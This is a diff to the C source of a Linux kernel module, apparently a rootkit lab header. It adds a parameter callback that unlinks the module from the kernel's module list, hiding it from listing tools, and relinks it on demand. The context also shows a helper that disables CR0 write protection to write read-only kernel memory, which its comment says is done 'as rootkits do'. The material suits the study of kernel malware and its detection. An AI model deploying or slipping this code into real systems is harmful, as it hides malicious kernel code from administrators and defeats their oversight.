@@ -56,6 +56,28 @@ static inline unsigned long lab_symbol(const char *name)
 	return ret;
 }
 
+/*
+ * LAB_LISTED: the parameter `listed` removes the module from the list of modules (0) and puts it
+ * back (1), so that it can be unloaded.
+ */
+static __maybe_unused int lab_set_listed(const char *text, const struct kernel_param *kp)
+{
+	struct list_head *list = &THIS_MODULE->list, *modules = (void *)lab_symbol("modules");
+	bool listed;
+	int ret = kstrtobool(text, &listed);
+
+	if (ret || !modules)
+		return ret ? ret : -ENOENT;
+	if (!listed)
+		list_del_init(list);
+	else if (list_empty(list))
+		list_add(list, modules);
+	return 0;
+}
+
+static __maybe_unused const struct kernel_param_ops lab_listed_ops = { .set = lab_set_listed };
+#define LAB_LISTED module_param_cb(listed, &lab_listed_ops, NULL, 0200)
+
 /* Write @size bytes to read-only memory of the kernel, as rootkits do: with CR0.WP off. */
 static inline void lab_write(void *to, const void *from, size_t size)
 {
